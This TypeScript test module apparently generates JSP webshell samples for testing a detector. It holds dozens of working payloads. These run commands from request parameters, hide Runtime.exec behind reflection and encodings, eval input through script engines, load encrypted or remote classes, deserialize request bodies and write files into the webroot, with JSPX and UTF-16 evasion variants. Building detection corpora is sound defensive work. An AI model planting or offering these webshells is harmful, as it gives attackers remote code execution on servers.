/** JSP trojans of our own writing, put together at test time. */
import { fill, sample, type Sample } from './sample.ts';
import { letters } from './pieces.ts';

const p = "req«»uest.getParameter(\"p\")";
const ways: Readonly<Record<string, readonly string[]>> = {
  command: [
    `Runtime.getRuntime().exec(${p});`, `String c = ${p}; Process x = Runtime.getRuntime().exec(c); java.io.InputStream in = x.getInputStream();`, `String[] a = {"/bin/sh", "-c", ${p}}; Runtime.getRuntime().exec(a);`, `new ProcessBuilder(new String[]{"bash", "-c", ${p}}).start();`, `ProcessBuilder b = new ProcessBuilder(); b.command("sh", "-c", req«»uest.getHeader("X-C")); b.start();`,
    `java.lang.Runtime r = java.lang.Runtime.getRuntime(); r.exec("cmd /c " + ${p});`, `\\u0052untime.get\\u0052untime().exec(${p});`, `StringBuilder s = new StringBuilder(); s.append("sh -c "); s.append(${p}); Runtime.getRuntime().exec(s.toString());`, `for (String c : req«»uest.getParameterValues("c")) { Runtime.getRuntime().exec(c); }`,
    `String q = req«»uest.getQueryString(); q = java.net.URLDecoder.decode(q, "UTF-8"); Runtime.getRuntime().exec(q);`, `String c = new String(java.util.Base64.getDecoder().decode(${p})); Runtime.getRuntime().exec(c);`, `javax.servlet.http.Cookie[] k = req«»uest.getCookies(); Runtime.getRuntime().exec(k[0].getValue());`, `if (${p} != null) { String o = run(${p}); out.print(o); } %><%! String run(String line) throws Exception { return "" + Runtime.getRuntime().exec(line); }`,
  ],
  reflection: [
    `Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), ${p});`, `Class k = Class.forName("java.lang.Run" + "time"); Object o = k.getMethod("getRuntime").invoke(null); k.getMethod("ex" + "ec", String.class).invoke(o, ${p});`, `Class k = Class.forName(new String(new byte[]{${letters('java.lang.Runtime')}})); k.getMethod(new String(new byte[]{${letters('exec')}}), String.class).invoke(null, ${p});`, `Class k = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="))); k.getMethod("exec", String.class).invoke(null, ${p});`, `Class k = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString()); k.getMethod("exec", String.class).invoke(null, ${p});`, `Class.forName(${p}).getMethod(req«»uest.getParameter("m"), String.class).invoke(null, req«»uest.getParameter("a"));`,
  ],
  engine: [
    `new javax.script.ScriptEngineManager().getEngineByName("js").eval(${p});`, `javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("nashorn"); e.eval("var x = " + ${p});`, `new javax.el.ELProcessor().eval(${p});`, `new groovy.lang.GroovyShell().evaluate(${p});`, `new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(${p}).getValue();`, `ExpressionFactory f = x.getFactory(); f.createValueExpression(ctx, ${p}, Object.class).getValue(ctx);`,
  ],
  loader: [
    `class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte []b) { return super.defineClass(b, 0, b.length); } } javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(2, new javax.crypto.spec.SecretKeySpec("0123456789abcdef".getBytes(), "AES")); new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(req«»uest.getReader().readLine()))).newInstance().equals(pageContext);`, `byte[] b = java.util.Base64.getDecoder().decode(${p}); java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); ((Class) m.invoke(getClass().getClassLoader(), b, 0, b.length)).newInstance();`, `new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(${p})}).loadClass("A").newInstance();`, `new java.io.ObjectInputStream(req«»uest.getInputStream()).readObject();`, `new javax.naming.InitialContext().lookup(${p});`, `new java.beans.XMLDecoder(req«»uest.getInputStream()).readObject();`,
  ],
  write: [
    `new java.io.FileOutputStream(${p}).write(req«»uest.getParameter("d").getBytes());`, `java.io.FileWriter w = new java.io.FileWriter(application.getRealPath("/") + "x.jsp"); w.write(${p}); w.close();`, `java.io.FileOutputStream o = new java.io.FileOutputStream(application.getRealPath("/") + ${p}); byte[] b = new byte[99]; java.io.InputStream in = req«»uest.getInputStream(); int n = in.read(b); o.write(b, 0, n);`, `java.nio.file.Files.write(java.nio.file.Paths.get(${p}), req«»uest.getParameter("d").getBytes());`,
  ],
};

export function jspSamples(): Sample[] {
  const out = Object.entries(ways).flatMap(([family, codes]) => codes.map((code, i) => sample(`jsp ${family}`, `jsp ${family} ${i + 1}`, `<%@ page import="java.util.*" %>\n<%\n${code}\n%>`, '/var/lib/tomcat/webapps/ROOT/x.jsp')));
  const run = (code: string): string => code;
  return [...out,
    sample('jspx', 'scriptlet', `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>${run(`Runtime.getRuntime().exec(${p});`)}</jsp:scriptlet></jsp:root>`, '/srv/a.jspx'),
    sample('jspx', 'entities', `<jsp:root version="1.2"><jsp:scriptlet>${Array.from(fill(`Runtime.getRuntime().exec(${p});`), (char) => `&#${char.charCodeAt(0)};`).join('')}</jsp:scriptlet></jsp:root>`, '/srv/b.jspx'),
    sample('jspx', 'expression language', '${"".getClass().forName("java.lang.Runtime").getMethod("exec", "".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null), param.c)}', '/srv/c.jsp'),
    sample('jspx', 'utf-16', `\xff\xfe${Array.from(fill(`<% Runtime.getRuntime().exec(${p}); %>`), (char) => `${char}\0`).join('')}`, '/srv/d.jsp'),
  ];
}
